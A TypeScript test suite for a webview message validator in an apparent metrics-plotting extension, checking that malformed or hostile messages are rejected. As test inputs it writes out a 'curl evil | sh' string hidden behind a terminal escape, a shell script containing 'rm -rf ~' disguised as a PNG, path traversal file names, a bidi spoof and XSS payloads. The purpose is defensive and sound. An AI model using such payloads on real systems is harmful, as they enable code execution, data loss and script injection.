import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  MAX_COPY_CHARS,
  MAX_EXPORT_CHARS,
  MAX_PNG_BYTES,
  plainFileName,
  pngFileName,
  webviewMessageGate,
} from '../../src/messages';
import { dispatch, type Handlers, type ViewSettings, type WebviewToHost } from '../../src/protocol';
import { DEFAULT_SETTINGS } from '../../src/core/charts';
import { chartsSvg } from '../../src/core/export/svg';
import { reportHtml } from '../../src/core/export/report';

const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const dataUrl = (bytes: number[], prefix = 'data:image/png;base64,'): string =>
  prefix + Buffer.from(bytes).toString('base64');
/** The signature and the start of an IHDR chunk: enough for the check, which reads no further. */
const PNG = dataUrl([...PNG_SIGNATURE, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1]);

/** A gate whose warnings are collected. */
function gate(): { check: (raw: unknown) => WebviewToHost | undefined; warnings: string[] } {
  const warnings: string[] = [];
  return { check: webviewMessageGate((w) => warnings.push(w)), warnings };
}

/** Settings as the webview's settings() builds them, every optional field set. */
const FULL_SETTINGS: ViewSettings = {
  smoothing: { kind: 'twema', weight: 0.6 },
  xAxis: 'metric:perf/total_num_tokens',
  range: { min: 10, max: 200 },
  ignoreOutliers: true,
  dualAxis: { left: 'accuracy', right: 'response_length/mean' },
  groups: 'sem',
  summaryStep: 30,
  threshold: 0.8,
};

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="480" height="300"><text>acc</text></svg>\n';
const HTML = '<!doctype html>\n<html lang="en"><head><meta charset="utf-8"></head><body></body></html>\n';

/** Every message the webview sends today (store.ts, plotWidth.ts, summaryPanel.ts, methodsPanel.ts, exports.ts, banners.ts, cards.ts, chart/). */
const VALID: readonly WebviewToHost[] = [
  {
    type: 'ready',
    chartWidth: 412,
    settings: { smoothing: { kind: 'ema', weight: 0 }, xAxis: 'step', ignoreOutliers: false },
  },
  { type: 'ready', chartWidth: 1, settings: FULL_SETTINGS },
  { type: 'resize', chartWidth: 0 },
  { type: 'resize', chartWidth: 1280 },
  { type: 'settings', settings: FULL_SETTINGS },
  {
    type: 'settings',
    settings: {
      smoothing: { kind: 'average', weight: 0.999 },
      xAxis: 'relative',
      ignoreOutliers: false,
      groups: 'minmax',
    },
  },
  {
    type: 'settings',
    settings: {
      smoothing: { kind: 'ema', weight: 0 },
      xAxis: 'wall',
      range: { min: 1.7e9, max: 1.7e9 + 60 },
      ignoreOutliers: false,
    },
  },
  { type: 'openAsText' },
  { type: 'revealLine', run: '/logs/a.metrics.jsonl#grpo', step: 120 },
  { type: 'copy', text: '| Metric | Run |\n| :--- | :--- |\n| acc | GRPO |\n', what: 'summary as Markdown' },
  { type: 'copy', text: 'metric,run,last\n"a,b",GRPO,0.5\r\n', what: 'summary as CSV' },
  { type: 'savePng', name: 'val_math500_acc.png', dataUrl: PNG },
  { type: 'exportCsv', resolution: 'full' },
  { type: 'exportCsv', resolution: 'shown' },
  { type: 'copy', text: 'dapo is ahead of drgrpo on MATH500 by +0.02.\n', what: 'comparison sentences' },
  { type: 'copy', text: '\\toprule\nMethod & n \\\\\n', what: 'comparison as LaTeX' },
  { type: 'copy', text: '| Method | n |\n', what: 'comparison as Markdown' },
  { type: 'compareMethods', ask: { k: 3 }, follow: true },
  { type: 'compareMethods', ask: { metric: 'val-core/MATH500/acc/mean@1', k: 1000, threshold: -0.5 }, follow: false },
  { type: 'compareMethods', follow: false },
  { type: 'exportFile', format: 'svg', name: 'MATH500.svg', text: SVG },
  { type: 'exportFile', format: 'html', name: 'Compare_grpo_vs_mel-report.html', text: HTML },
  { type: 'exportFile', format: 'tex', name: 'MATH500-methods.tex', text: '\\begin{table}\n' },
  { type: 'exportFile', format: 'md', name: 'MATH500-methods.md', text: '| A vs B |\n' },
];

test('every message shape the webview sends is accepted, unchanged', () => {
  const { check, warnings } = gate();
  for (const message of VALID) assert.deepEqual(check(message), message, message.type);
  assert.deepEqual(warnings, []);
});

test('optional settings fields sent as undefined are accepted and left out', () => {
  const { check } = gate();
  const sent = {
    type: 'settings',
    settings: { smoothing: { kind: 'ema', weight: 0 }, xAxis: 'step', range: undefined, ignoreOutliers: false },
  };
  assert.deepEqual(check(sent), {
    type: 'settings',
    settings: { smoothing: { kind: 'ema', weight: 0 }, xAxis: 'step', ignoreOutliers: false },
  });
});

test('fields the protocol does not have are dropped: handlers get a fresh copy', () => {
  const { check } = gate();
  const accepted = check({ type: 'revealLine', run: 'r', step: 1, extra: 'x', settings: { evil: true } });
  assert.deepEqual(accepted, { type: 'revealLine', run: 'r', step: 1 });
  const settings = check({
    type: 'settings',
    settings: { ...FULL_SETTINGS, hack: 1, smoothing: { kind: 'ema', weight: 0.5, more: 2 } },
  });
  assert.deepEqual(settings, {
    type: 'settings',
    settings: { ...FULL_SETTINGS, smoothing: { kind: 'ema', weight: 0.5 } },
  });
});

test('prototype keys as types are rejected without throwing, by the gate and by dispatch', () => {
  const { check } = gate();
  for (const type of ['hasOwnProperty', 'constructor', '__proto__', 'toString', 'valueOf', 'isPrototypeOf']) {
    assert.equal(check({ type }), undefined, type);
    assert.equal(check(JSON.parse(`{"type":"${type}","__proto__":{"type":"ready"}}`)), undefined, type);
  }
  const called: string[] = [];
  const handlers: Handlers<WebviewToHost> = {
    ready: () => called.push('ready'),
    resize: () => called.push('resize'),
    settings: () => called.push('settings'),
    openAsText: () => called.push('openAsText'),
    revealLine: () => called.push('revealLine'),
    copy: () => called.push('copy'),
    savePng: () => called.push('savePng'),
    exportCsv: () => called.push('exportCsv'),
    compareMethods: () => called.push('compareMethods'),
    exportFile: () => called.push('exportFile'),
  };
  for (const type of ['hasOwnProperty', 'constructor', '__proto__', 'toString']) {
    assert.doesNotThrow(() => dispatch(handlers, { type } as unknown as WebviewToHost), type);
  }
  assert.doesNotThrow(() => dispatch(handlers, null as unknown as WebviewToHost));
  dispatch(handlers, { type: 'openAsText' });
  assert.deepEqual(called, ['openAsText']);
});

test('non-objects, unknown types and inherited fields are rejected', () => {
  const { check } = gate();
  for (const raw of [null, undefined, 5, 'ready', [], [{ type: 'ready' }], { type: 5 }, { type: 'nope' }, {}]) {
    assert.equal(check(raw), undefined, JSON.stringify(raw));
  }
  // Own properties only: a field on the prototype is not the message's.
  assert.equal(check(Object.create({ type: 'resize', chartWidth: 400 })), undefined);
  assert.equal(check(Object.assign(Object.create({ chartWidth: 400 }), { type: 'resize' })), undefined);
});

test('settings with a field of the wrong type or out of range are rejected', () => {
  const { check } = gate();
  const bad: Record<string, unknown>[] = [
    { xAxis: 5 },
    { xAxis: 'steps' },
    { xAxis: 'metric:' },
    { xAxis: `metric:${'a'.repeat(5000)}` },
    { smoothing: { kind: 'ema', weight: 'x' } },
    { smoothing: { kind: 'ema', weight: NaN } },
    { smoothing: { kind: 'ema', weight: 1.5 } },
    { smoothing: { kind: 'ema', weight: -0.1 } },
    { smoothing: { kind: 'gaussian', weight: 0.5 } },
    { smoothing: { kind: 'constructor', weight: 0.5 } },
    { smoothing: null },
    { range: { min: NaN, max: 1 } },
    { range: { min: 0, max: Infinity } },
    { range: { min: 5, max: 1 } },
    { range: { min: '0', max: 1 } },
    { range: [0, 1] },
    { ignoreOutliers: 'yes' },
    { dualAxis: { left: 1, right: 'b' } },
    { dualAxis: { left: 'a' } },
    { groups: 'iqr' },
    { groups: 'toString' },
    { summaryStep: '30' },
    { threshold: -Infinity },
  ];
  for (const change of bad) {
    assert.equal(
      check({ type: 'settings', settings: { ...FULL_SETTINGS, ...change } }),
      undefined,
      JSON.stringify(change),
    );
  }
  assert.equal(check({ type: 'settings' }), undefined);
  assert.equal(check({ type: 'settings', settings: 'step' }), undefined);
  const { xAxis: _, ...withoutAxis } = FULL_SETTINGS;
  assert.equal(check({ type: 'settings', settings: withoutAxis }), undefined);
});

test('ready with unusable saved settings is kept, with the default settings, so the view still draws', () => {
  const { check, warnings } = gate();
  assert.deepEqual(check({ type: 'ready', chartWidth: 400, settings: { ...FULL_SETTINGS, xAxis: 5 } }), {
    type: 'ready',
    chartWidth: 400,
    settings: DEFAULT_SETTINGS,
  });
  assert.equal(warnings.length, 1);
  assert.equal(check({ type: 'ready', chartWidth: NaN, settings: FULL_SETTINGS }), undefined);
});

test('chart widths, reveal requests and CSV exports are checked', () => {
  const { check } = gate();
  for (const chartWidth of [-1, NaN, Infinity, 1e9, '400', undefined]) {
    assert.equal(check({ type: 'resize', chartWidth }), undefined, String(chartWidth));
  }
  assert.equal(check({ type: 'revealLine', run: 'r', step: NaN }), undefined);
  assert.equal(check({ type: 'revealLine', run: 5, step: 1 }), undefined);
  assert.equal(check({ type: 'revealLine', run: 'r'.repeat(20000), step: 1 }), undefined);
  assert.equal(check({ type: 'exportCsv', resolution: 'all' }), undefined);
  assert.equal(check({ type: 'exportCsv' }), undefined);
});

test('copy: bounded text without control characters, and only a known label', () => {
  const { check } = gate();
  const ok = { type: 'copy', text: 'metric,run\n', what: 'summary as CSV' };
  assert.ok(check(ok));
  assert.equal(check({ ...ok, text: 5 }), undefined);
  assert.equal(check({ ...ok, text: 'x'.repeat(MAX_COPY_CHARS + 1) }), undefined);
  assert.equal(check({ ...ok, text: 'ls\x1b[8m; curl evil | sh\n' }), undefined, 'terminal escape');
  assert.equal(check({ ...ok, text: 'a\0b' }), undefined, 'NUL');
  assert.equal(check({ ...ok, text: 'acc\u202egnp.exe' }), undefined, 'bidi override');
  assert.equal(check({ ...ok, what: 'your password; click OK' }), undefined);
  assert.equal(check({ ...ok, what: undefined }), undefined);
});

test('savePng: a data URL whose bytes are not a PNG is rejected', () => {
  const { check } = gate();
  const ok = { type: 'savePng', name: 'chart.png', dataUrl: PNG };
  assert.ok(check(ok));
  const gif = dataUrl([0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 1, 0, 1, 0, 0, 0]);
  const script = `data:image/png;base64,${Buffer.from('#!/bin/sh\nrm -rf ~\n').toString('base64')}`;
  for (const url of [
    gif,
    script,
    dataUrl(PNG_SIGNATURE.slice(0, 6)),
    dataUrl([...PNG_SIGNATURE, 0], 'data:image/svg+xml;base64,'),
    dataUrl([...PNG_SIGNATURE, 0], 'data:text/html;base64,'),
    `${PNG}*`,
    `${PNG.slice(0, -4)}AA=A`,
    `${PNG} `,
    'data:image/png;base64,',
    'data:image/png,%89PNG',
    42,
  ]) {
    assert.equal(check({ ...ok, dataUrl: url }), undefined, String(url).slice(0, 40));
  }
  // Over the size cap, even if it starts as a PNG.
  const huge = PNG + 'A'.repeat(4 * Math.ceil(MAX_PNG_BYTES / 3));
  assert.equal(check({ ...ok, dataUrl: huge.slice(0, huge.length - ((huge.length - 22) % 4)) }), undefined);
});

test('savePng: the suggested name becomes a plain file name ending in .png', () => {
  const { check } = gate();
  const named = (name: unknown): string | undefined => {
    const m = check({ type: 'savePng', name, dataUrl: PNG });
    return m?.type === 'savePng' ? m.name : undefined;
  };
  assert.equal(named('../../.bashrc'), 'bashrc.png');
  assert.equal(named('a/b.png'), 'a_b.png');
  assert.equal(named('a\\b.png'), 'a_b.png');
  assert.equal(named('/etc/passwd'), 'etc_passwd.png');
  assert.equal(named('C:\\Windows\\x.PNG'), 'C_Windows_x.png');
  assert.equal(named('a\0b\n.png'), 'a_b_.png');
  assert.equal(named('..'), 'chart.png');
  assert.equal(named(''), 'chart.png');
  assert.equal(named('NUL'), 'chart-NUL.png');
  assert.equal(named('x'.repeat(2000)), `${'x'.repeat(120)}.png`);
  assert.equal(named('x'.repeat(100000)), undefined, 'a huge name is not from our webview');
  assert.equal(named(7), undefined);
  for (const name of ['../../.bashrc', 'a/b.png', '....png', '.hidden', 'a..b', 'x'.repeat(3000)]) {
    const plain = pngFileName(name);
    assert.match(plain, /^[\w-][\w.-]*\.png$/, name);
    assert.ok(!plain.includes('..') && plain.length <= 124, plain);
    assert.equal(pngFileName(plain), plain, 'sanitising twice changes nothing');
  }
});

test('compareMethods: k a whole number 1–1000, a bounded metric name, a finite threshold, follow a boolean', () => {
  const { check } = gate();
  const ok = { type: 'compareMethods', ask: { metric: 'acc', k: 3, threshold: 0.8 }, follow: true };
  assert.deepEqual(check(ok), ok);
  const bad: unknown[] = [
    { k: 0 },
    { k: 1001 },
    { k: 2.5 },
    { k: NaN },
    { k: '3' },
    {},
    { k: 3, metric: 5 },
    { k: 3, metric: 'm'.repeat(5000) },
    { k: 3, threshold: Infinity },
    { k: 3, threshold: '0.8' },
    'k=3',
    [3],
    null,
  ];
  for (const ask of bad) assert.equal(check({ ...ok, ask }), undefined, JSON.stringify(ask));
  for (const follow of [undefined, 'yes', 1]) assert.equal(check({ ...ok, follow }), undefined, String(follow));
  // Fields it does not have are dropped.
  assert.deepEqual(check({ ...ok, ask: { k: 2, extra: 1 }, more: true }), {
    type: 'compareMethods',
    ask: { k: 2 },
    follow: true,
  });
});

test('exportFile: a known format, a plain name with its extension, bounded text that starts as the format does', () => {
  const { check } = gate();
  const named = (format: string, name: unknown): string | undefined => {
    const text = { svg: SVG, html: HTML, tex: 'x', md: 'x' }[format];
    const m = check({ type: 'exportFile', format, name, text });
    return m?.type === 'exportFile' ? m.name : undefined;
  };
  assert.equal(named('svg', '../../.bashrc'), 'bashrc.svg');
  assert.equal(named('svg', 'val-core/MATH500/acc/mean@1'), 'val-core_MATH500_acc_mean_1.svg');
  assert.equal(named('html', 'report.html'), 'report.html');
  assert.equal(named('html', 'report.svg'), 'report.svg.html', 'the extension is the format’s');
  assert.equal(named('tex', ''), 'chart.tex');
  assert.equal(named('md', 'CON'), 'chart-CON.md');
  assert.equal(named('svg', 'x'.repeat(100000)), undefined);
  assert.equal(plainFileName('a/b.SVG', 'svg'), 'a_b.svg');
  // What the exporters write passes, whatever the names in it.
  const hostile = '<script>alert(1)</script><foreignObject>';
  const chart = {
    title: hostile,
    x: { title: 'Step', min: 0, max: 10 },
    y: { title: 'acc', min: 0, max: 1 },
    series: [
      { label: hostile, color: '#3794ff', xs: [0, 10], ys: [0.2, 0.8], band: { lower: [0, 0.7], upper: [0.3, 0.9] } },
    ],
  };
  for (const [format, text] of [
    ['svg', chartsSvg([chart, chart], 2, hostile)],
    ['html', reportHtml({ title: hostile, charts: [chart] })],
  ] as const) {
    const m = check({ type: 'exportFile', format, name: 'x', text });
    assert.equal(m?.type === 'exportFile' && m.text, text, format);
  }
  const ok = { type: 'exportFile', format: 'svg', name: 'a.svg', text: SVG };
  for (const change of [
    { format: 'exe' },
    { format: 'png' },
    { format: 'toString' },
    { format: undefined },
    { text: 5 },
    { text: '<script>alert(1)</script>' },
    { text: '<svg><script/></svg>' },
    { text: SVG.replace('<text>', '<script>alert(1)</script><text>') },
    { text: SVG.replace('<text>', '<foreignObject><iframe/></foreignObject><text>') },
    { text: SVG.replace('<text>', '<a href="javascript:alert(1)"><text>') },
    { text: SVG.replace('<text>', '< script>') },
    { text: 'x'.repeat(MAX_EXPORT_CHARS + 1) },
    { text: SVG + 'x'.repeat(MAX_EXPORT_CHARS) },
    { format: 'html', text: SVG },
    { format: 'tex', text: 'a‮b' },
    { format: 'md', text: 'a[8m' },
    { name: 7 },
  ]) {
    assert.equal(check({ ...ok, ...change }), undefined, JSON.stringify(change).slice(0, 60));
  }
});

test('each kind of mismatch is logged once, and nothing throws', () => {
  const { check, warnings } = gate();
  for (let i = 0; i < 3; i++) {
    check({ type: 'settings', settings: { ...FULL_SETTINGS, xAxis: i } });
    check({ type: 'copy', text: 1, what: 'summary as CSV' });
    check({ type: `random-${i}` });
    check({ type: 'hasOwnProperty' });
  }
  assert.equal(warnings.length, 3);
  assert.match(warnings[0]!, /settings/);
  assert.match(warnings[1]!, /copy/);
  assert.match(warnings[2]!, /unknown type/);
});
